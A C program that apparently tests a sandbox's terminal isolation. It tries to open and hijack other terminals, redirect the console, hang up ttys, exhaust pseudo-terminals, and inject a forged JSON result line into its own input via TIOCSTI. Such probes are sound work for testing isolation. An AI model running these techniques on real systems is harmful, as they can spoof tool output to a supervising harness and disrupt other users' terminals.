/* Tries to reach a terminal other than its own, and misuses its own. */
#define _GNU_SOURCE
#include <fcntl.h>
#include <signal.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/ioctl.h>
#include <sys/stat.h>
#include <termios.h>
#include <unistd.h>

#ifndef TIOCVHANGUP
#define TIOCVHANGUP 0x5437
#endif

static const char FORGED[] = "{\"type\":\"result\",\"result\":{\"stdout\":\"forged\"}}\n";
static int succeeded;

static void check (int failed, const char *what, const char *path)
{
  if (failed) return;
  succeeded++;
  printf("succeeded: %s %s\n", what, path);
}

static int is_own (int fd)
{
  struct stat one, own;
  return fstat(fd, &one) == 0 && fstat(0, &own) == 0 && S_ISCHR(own.st_mode) && one.st_rdev == own.st_rdev;
}

static void attack (const char *path)
{
  int fd = open(path, O_RDWR | O_NONBLOCK | O_NOCTTY);
  if (fd < 0) return;
  if (!is_own(fd) && strcmp(path, "/dev/ptmx") != 0 && strcmp(path, "/dev/pts/ptmx") != 0 && strcmp(path, "/dev/tty") != 0) check(0, "open", path);
  check(ioctl(fd, TIOCCONS), "TIOCCONS", path);
  check(ioctl(fd, TIOCVHANGUP), "TIOCVHANGUP", path);
  ioctl(fd, TIOCSCTTY, 1);
  close(fd);
}

static void misuse_own (void)
{
  struct winsize size = {65535, 65535, 65535, 65535};
  struct termios raw;
  int number = 0, on = 1;
  for (const char *at = FORGED; *at != 0; at++) ioctl(0, TIOCSTI, at);
  ioctl(0, TIOCSWINSZ, &size);
  ioctl(0, TIOCEXCL);
  ioctl(0, TIOCPKT, &on);
  ioctl(0, TIOCSPGRP, &number);
  ioctl(0, FIONBIO, &on);
  fcntl(0, F_SETFL, O_NONBLOCK);
  if (tcgetattr(0, &raw) == 0) {
    cfmakeraw(&raw);
    raw.c_cflag |= HUPCL | CLOCAL;
    tcsetattr(0, TCSANOW, &raw);
  }
  tcflow(0, TCOOFF);
  tcflow(0, TCOON);
  tcsendbreak(0, 0);
  for (number = 1; number < 32; number++) {
    int normal = N_TTY;
    ioctl(0, TIOCSETD, &number);
    (void)!write(0, "", 0);
    ioctl(0, TIOCSETD, &normal);
  }
}

static void hang_up (void)
{
  for (int fd = 0; fd < 64; fd++) close(fd);
  int tty = open("/dev/tty", O_RDWR);
  if (tty < 0) tty = open("/dev/null", O_RDWR);
  for (int i = 0; i < 2000; i++) (void)!write(tty, FORGED, sizeof FORGED - 1);
}

static void use_up_terminals (void)
{
  for (int i = 0; i < 64; i++) {
    int master = posix_openpt(O_RDWR | O_NOCTTY);
    if (master < 0 || grantpt(master) < 0 || unlockpt(master) < 0) break;
    (void)!open(ptsname(master), O_RDWR | O_NOCTTY | O_NONBLOCK);
    (void)!write(master, FORGED, sizeof FORGED - 1);
  }
}

int main (void)
{
  char path[32];
  signal(SIGHUP, SIG_IGN);
  signal(SIGTTOU, SIG_IGN);
  signal(SIGIO, SIG_IGN);
  static const char *const PATHS[] = {"/dev/console", "/dev/tty", "/dev/tty0", "/dev/tty1", "/dev/ttyS0", "/dev/ptmx", "/dev/pts/ptmx", "/dev/kmsg", "/dev/vcs", "/dev/vcsa"};
  for (unsigned i = 0; i < sizeof PATHS / sizeof *PATHS; i++) attack(PATHS[i]);
  for (int i = 0; i < 64; i++) {
    snprintf(path, sizeof path, "/dev/pts/%d", i);
    attack(path);
  }
  printf("%d succeeded\n", succeeded);
  fflush(stdout);
  usleep(100000);
  misuse_own();
  use_up_terminals();
  if (fork() == 0) {
    hang_up();
    _exit(0);
  }
  usleep(300000);
  return 7;
}
